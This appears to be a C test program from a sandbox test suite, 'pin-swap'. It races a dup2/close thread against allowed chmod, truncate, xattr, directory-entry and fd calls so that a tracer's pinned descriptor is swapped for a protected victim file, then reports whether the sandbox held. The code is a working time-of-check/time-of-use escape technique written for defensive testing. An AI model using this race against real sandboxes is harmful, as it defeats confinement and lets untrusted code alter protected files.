/*
 * pin-swap: swap the descriptor a tracer works through, in the shared fd table, between its
 * check and the call (THREATS E: "dup2 over a checked fd number").
 *
 * usage: pin-swap VICTIM [SUB-ATTACK...]        (--profile default -p attacks/victim.policy)
 *
 * A tracer may make a path call race-free by having the tracee open ("pin") what it judged
 * and running the call on that descriptor (an *at call on a pinned directory, a call on
 * /proc/self/fd/N), or make an fd call race-free by judging a duplicate of the fd.  Those
 * descriptors live in the fd table every thread of the process shares.  Here a second
 * thread keeps a read-only descriptor of a VICTIM file (or directory) going in and out of the
 * lowest free fd numbers with dup2()/close(), so that a pin opened there is soon replaced by
 * the victim; the main thread makes allowed calls on files of the working directory:
 *   chmod, truncate, setxattr   (object calls: a pin of the file)          VICTIM/t/f0N
 *   mkdir, unlink, symlink      (entry calls: a pin of the parent directory) VICTIM/t/...
 *   fchmod, fchown              (an fd call: a duplicate of our fd)          VICTIM/t/f0N
 * Every one changes only our own file, unless the victim took the pin's place: then
 * VICTIM changes (the driver compares it all).  Each attack runs for ATK_SECONDS.
 * calibrate-selfpin does the pinning itself (see there): it proves the swapper can win
 * without any tracer.
 */
#include <pthread.h>
#include <sys/stat.h>
#include <sys/xattr.h>

#include "atk.h"

#define ATK_SECONDS 0.3

static const char *V;
static int victim_fd, low;
static volatile int go, idle = 1;

/* Keep the victim going in and out of fds low..low+3 */
static void *swapper(void *arg)
{
	(void)arg;
	unsigned spin = 1;
	while (!atk_stop) {
		if (!go) {
			if (!idle) {
				for (int k = 0; k < 4; k++)
					close(low + k);
				idle = 1;
			}
			__asm__ volatile("pause");
			continue;
		}
		idle = 0;
		for (int k = 0; k < 4; k++)
			close(low + k);
		for (volatile unsigned i = 0; i < spin; i++)
			;
		for (int k = 0; k < 4; k++)
			dup2(victim_fd, low + k);
		for (volatile unsigned i = 0; i < spin; i++)
			;
		spin = spin * 7 % 4001 + 1; /* vary the rhythm */
	}
	for (int k = 0; k < 4; k++)
		close(low + k);
	return NULL;
}

struct attack {
	const char *name;
	const char *victim;   /* VICTIM/t/<victim> (a directory for entry calls: VICTIM/t) */
	bool dir;             /* the victim fd is of VICTIM/t */
	bool (*try)(struct attack *a);
	int fd;
};

static bool try_chmod(struct attack *a) { static int k; return chmod("f00", (k++ & 1) ? 0600 : 0644) == 0; }
static bool try_truncate(struct attack *a) { return truncate("f01", 0) == 0; }
static bool try_setxattr(struct attack *a) { return setxattr("f02", "user.attack", "1", 1, 0) == 0; }
static bool try_mkdir(struct attack *a) { return mkdir("newdir", 0755) == 0 && rmdir("newdir") == 0; }
static bool try_symlink(struct attack *a) { return symlink("x", "newsym") == 0 && unlink("newsym") == 0; }
static bool try_unlink(struct attack *a)
{
	/* f04 exists in VICTIM/t too */
	int fd = open("f04", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0)
		close(fd);
	return unlink("f04") == 0;
}
/* What a pinning tracer does, done by the program itself: pin, a tracer's worth of delay,
 * chmod through /proc/self/fd/N.  Without a tracer this shows the swapper winning (the
 * row's proof that it can fail).  Under a tracer the name /proc/self/fd/N is judged by the
 * file it reaches when the tracer looks; a tracer that runs the call on a pin of its own is
 * then exposed exactly like chmod-pin. */
static bool try_selfpin(struct attack *a)
{
	char p[64];
	int fd = open("f03", O_PATH | O_CLOEXEC);
	bool ok;
	if (fd < 0)
		return false;
	for (volatile int i = 0; i < 20000; i++)
		;
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	ok = chmod(p, 0644) == 0;
	close(fd);
	return ok;
}

static bool try_fchmod(struct attack *a) { static int k; return fchmod(a->fd, (k++ & 1) ? 0600 : 0644) == 0; }
static bool try_fchown(struct attack *a) { return fchown(a->fd, 1234, 1234) == 0; }

static int lowest_free(void)
{
	int fd = dup(0);
	if (fd < 0)
		tt_fail("dup: %s", strerror(errno));
	close(fd);
	return fd;
}

static void run(struct attack *a)
{
	char vp[4200], what[4200];
	struct atk_fstate before, dbefore, now;
	const char *d;
	long i, nok = 0;
	double t0;

	if (!atk_want(a->name))
		return;
	snprintf(vp, sizeof vp, "%s/t", V);
	dbefore = atk_fstate(vp);
	snprintf(what, sizeof what, "%s/t/%s", V, a->victim);
	before = atk_fstate(what);
	victim_fd = open(a->dir ? vp : what, O_RDONLY | O_CLOEXEC | (a->dir ? O_DIRECTORY : 0));
	if (victim_fd < 0)
		tt_fail("control failed: open %s read-only: %s", a->dir ? vp : what, strerror(errno));
	low = lowest_free();
	idle = 0;
	go = 1;
	t0 = atk_now();
	for (i = 0; i < 100000; i++) {
		if (a->try(a))
			nok++;
		if ((i & 15) == 0 && atk_now() - t0 > ATK_SECONDS)
			break;
	}
	go = 0;
	while (!idle) /* the swapper has closed its copies and stopped */
		sched_yield();
	now = atk_fstate(what);
	d = atk_fstate_diff(&before, &now);
	if (*d) {
		atk_escaped(a->name, "VICTIM/t/%s %s (after %ld calls on our own file)", a->victim, d, i);
	} else {
		now = atk_fstate(vp);
		d = atk_fstate_diff(&dbefore, &now);
		if (*d)
			atk_escaped(a->name, "VICTIM/t %s (after %ld calls on our own names)", d, i);
		else
			atk_held(a->name, "%ld calls, %ld succeeded on our own files", i, nok);
	}
	close(victim_fd);
}

int main(int argc, char **argv)
{
	pthread_t th;

	tt_init(argc, argv);
	V = atk_victim_dir(argc, argv);
	atk_select(argc, argv, 2);
	atk_controls();
	tt_watchdog(40, "pin-swap");
	for (int i = 0; i < 8; i++) {
		char n[8];
		snprintf(n, sizeof n, "f%02d", i);
		atk_put(n, "LOCAL\n", 0644);
	}
	if (pthread_create(&th, NULL, swapper, NULL))
		tt_fail("pthread_create failed");

	struct attack attacks[] = {
		{ "chmod-pin", "f00", false, try_chmod },
		{ "truncate-pin", "f01", false, try_truncate },
		{ "setxattr-pin", "f02", false, try_setxattr },
		{ "mkdir-pin", "newdir", true, try_mkdir },
		{ "symlink-pin", "newsym", true, try_symlink },
		{ "unlink-pin", "f04", true, try_unlink },
		{ "fchmod-dup", "f05", false, try_fchmod },
		{ "fchown-dup", "f06", false, try_fchown },
		{ "calibrate-selfpin", "f03", false, try_selfpin },
	};
	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
		struct attack *a = &attacks[i];
		char n[8];
		snprintf(n, sizeof n, "%s", a->victim);
		a->fd = open(strncmp(n, "new", 3) ? n : "f07", O_RDONLY | O_CLOEXEC);
		run(a);
		close(a->fd);
	}
	atk_stop = 1;
	pthread_join(th, NULL);
	atk_finish();
}
